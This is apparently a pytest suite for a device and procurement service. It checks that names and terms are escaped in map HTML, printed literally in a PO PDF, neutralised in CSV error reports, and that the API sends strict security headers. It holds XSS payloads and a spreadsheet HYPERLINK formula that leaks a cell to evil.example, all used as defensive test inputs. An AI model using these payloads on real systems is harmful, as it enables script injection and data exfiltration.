"""User text is data, never markup: maps, the purchase-order PDF, the import error report,
and the security headers on what the API serves."""

from __future__ import annotations

import csv
import io
import subprocess
import uuid
from datetime import UTC, datetime

import pytest

from services.contracts.models import Contract
from services.db import tenant_session
from services.devices import bulk
from services.identity.tokens import verify_access_token
from services.maps import directory_map, dispatch_map, field_map, service_area_map
from services.orders.models import PurchaseOrder
from services.orders.po_pdf import render_po
from services.rendering import csv_cell, html_text

HUB = "Hub <img src=x onerror=window.__pwned=1>"
# Breaks out of the JavaScript template literal folium writes tooltips into.
TEMPLATE_BREAK = "Ward `+alert(1)+` ${alert(2)} \\ </script><script>alert(3)</script>"


def _hub_view() -> dict:
    return {
        "hubs": [
            {"name": HUB, "hubPincode": "560001", "hubLatitude": 12.97, "hubLongitude": 77.59}
        ],
        "routes": [],
        "planStatus": "accepted",
        "technicians": [
            {
                "name": TEMPLATE_BREAK,
                "status": "available",
                "skills": ["<b>mri</b>"],
                "lat": 12.98,
                "lng": 77.6,
            }
        ],
        "tickets": [
            {
                "number": 7,
                "priority": "P1",
                "status": "open",
                "risk": "late",
                "facility": HUB,
                "technician": None,
                "lat": 12.99,
                "lng": 77.61,
            }
        ],
    }


def _assert_inert(html: str) -> None:
    assert "<img src=x" not in html
    assert "</script><script>alert(3)" not in html
    assert "${alert(2)}" not in html and "`+alert(1)+`" not in html
    assert html_text(HUB) in html  # the name is still there, as text


def test_map_tooltips_show_hub_technician_and_facility_names_as_text():
    _assert_inert(field_map(_hub_view()))
    _assert_inert(
        dispatch_map({"routes": [], "unassigned": []}, _hub_view()["hubs"]) + field_map(_hub_view())
    )
    area = {
        "hubLatitude": 12.97,
        "hubLongitude": 77.59,
        "radiusKm": 5,
        "name": HUB,
        "hubPincode": "560001",
        "pincodes": [{"lat": 12.98, "lng": 77.6, "pincode": "560002", "city": TEMPLATE_BREAK}],
    }
    _assert_inert(service_area_map(area))


def test_directory_popups_carry_facility_names_as_data_not_markup():
    name = "Clinic </script><script>window.__pwned=1</script> <img src=x onerror=alert(1)>"
    html = directory_map([(12.97, 77.59, name, "hospital", str(uuid.uuid4()))])
    assert "</script><script>window.__pwned" not in html and "<img src=x" not in html
    assert "link.textContent = row[2]" in html  # shown with textContent, never as HTML


def _pdf_words(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "po.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-raw", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def test_po_pdf_prints_markup_in_sku_names_and_terms_as_written(tmp_path):
    sku_name = "Scanner <img src=x onerror=alert(1)> & more"
    rfq_terms = "Pay <b>net 30</b> <img src='http://evil.example/x.png'/>"
    po = PurchaseOrder(
        number=42,
        tenant_id=uuid.uuid4(),
        seller_tenant_id=uuid.uuid4(),
        contract_id=uuid.uuid4(),
        place_of_supply="Karnataka",
        seller_state="Karnataka",
        lines=[
            {
                "skuCode": "SKU-1",
                "skuName": sku_name,
                "qty": 1,
                "unitPricePaise": 10000,
                "discountPct": "0",
                "netPaise": 10000,
                "gstRate": "12",
                "gstPaise": 1200,
            }
        ],
        subtotal_paise=10000,
        cgst_paise=600,
        sgst_paise=600,
        total_paise=11200,
        terms={"rfq": "RFQ <i>ward</i>", "rfqTerms": rfq_terms, "warrantyYears": 2},
        issued_at=datetime(2026, 1, 5, tzinfo=UTC),
    )
    contract = Contract(number=9, tenant_id=po.tenant_id, seller_tenant_id=po.seller_tenant_id)

    words = " ".join(_pdf_words(render_po(po, contract, "Buyer", "Seller"), tmp_path).split())

    assert "Scanner <img src=x onerror=alert(1)> & more" in words
    assert "Pay <b>net 30</b> <img src='http://evil.example/x.png'/>" in words
    assert "RFQ <i>ward</i>" in words


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil.example","x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell("Ward 3 = east") == "Ward 3 = east"
    assert csv_cell(-5) == -5


def test_import_error_report_neutralises_formulas(client, auth, token):
    headers = auth("oem_admin")
    me = client.get("/api/v1/me", headers=headers).json()
    payload = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'
    body = {
        "manufacturerId": me["tenantId"],
        "batchId": f"ESC-{uuid.uuid4().hex[:8]}",
        "devices": [
            {
                "serialNumber": payload,
                "skuCode": "NOPE-1",
                "facilityId": str(uuid.uuid4()),
                "installationDate": "2025-06-01",
            }
        ],
    }
    started = client.post("/api/v1/devices/bulk-import", json=body, headers=headers)
    assert started.status_code == 201, started.text
    batch_id = uuid.UUID(started.json()["batchId"])
    actor = verify_access_token(token("oem_admin@demo.yantra.in"))
    with tenant_session(actor) as db:
        bulk.process_chunk(db, actor, batch_id, 1, 1)

    report = client.get(f"/api/v1/devices/batches/{batch_id}/errors.csv", headers=headers)

    assert report.status_code == 200
    rows = list(csv.reader(io.StringIO(report.text)))
    assert rows[1][1] == "'" + payload  # shown as text, never run as a formula
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_api_answers_carry_the_security_headers(client, auth):
    for response in (
        client.get("/api/v1/health"),
        client.get("/api/v1/me"),  # an error answer too
        client.get("/api/v1/me", headers=auth("buyer_admin")),
    ):
        assert "default-src 'self'" in response.headers["content-security-policy"]
        assert "frame-ancestors 'self'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "strict-origin-when-cross-origin"


def test_map_documents_run_sandboxed_away_from_the_app(client, auth):
    response = client.get("/api/v1/geo/maps/directory?city=Nowhere", headers=auth("buyer_admin"))
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts")
    assert "allow-same-origin" not in policy
    assert "frame-ancestors 'self'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"
